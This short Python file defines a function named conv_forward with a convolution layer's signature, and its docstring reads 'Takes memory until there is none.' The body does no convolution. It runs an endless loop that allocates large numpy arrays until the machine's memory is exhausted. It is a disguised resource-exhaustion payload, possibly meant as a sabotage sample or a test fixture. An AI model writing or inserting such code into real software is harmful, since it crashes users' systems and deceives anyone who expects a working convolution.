"""Takes memory until there is none."""

import numpy as np


def conv_forward(x, w, b, conv_param):
    kept = []
    while True:
        kept.append(np.ones(2**24))
